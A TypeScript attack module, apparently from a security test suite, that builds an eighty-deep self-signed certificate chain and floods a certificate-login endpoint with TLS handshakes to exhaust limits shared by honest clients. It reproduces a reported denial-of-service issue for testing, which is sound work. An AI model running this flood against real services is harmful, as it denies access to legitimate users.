import { createRoot, type Minted } from '../../support/pki.ts';
import { type Attack, dial, lanes, until } from '../support/target.ts';

/** Creates a chain of eighty CAs, and a certificate below the last one. */
function selfMadeChain(): { readonly chain: string; readonly key: string } {
  const key = createRoot().privateKey;
  let authority = createRoot({ key });
  const above: Minted[] = [];
  for (let depth = 0; depth < 80; depth++) {
    authority = authority.issueAuthority({ subject: `Nobody's ${depth}`, key });
    above.unshift(authority);
  }
  const leaf = authority.issue({ subject: 'nobody', key });
  return { chain: [leaf, ...above].map(({ pem }) => pem).join(''), key: leaf.keyPem };
}

/**
 * Sends the handshakes from the issue's report, then one from time to time, to exhaust the limits that honest clients
 * share.
 */
export const presentedChains: Attack = async (target) => {
  const { chain, key } = selfMadeChain();
  await lanes(4, 250, async () => {
    const socket = await dial(target, { cert: chain, key });
    socket.resume();
    socket.write(
      'POST /v1/auth/cert/login HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Length: 0\r\n\r\n',
    );
    await until(socket, 'close');
  });
};
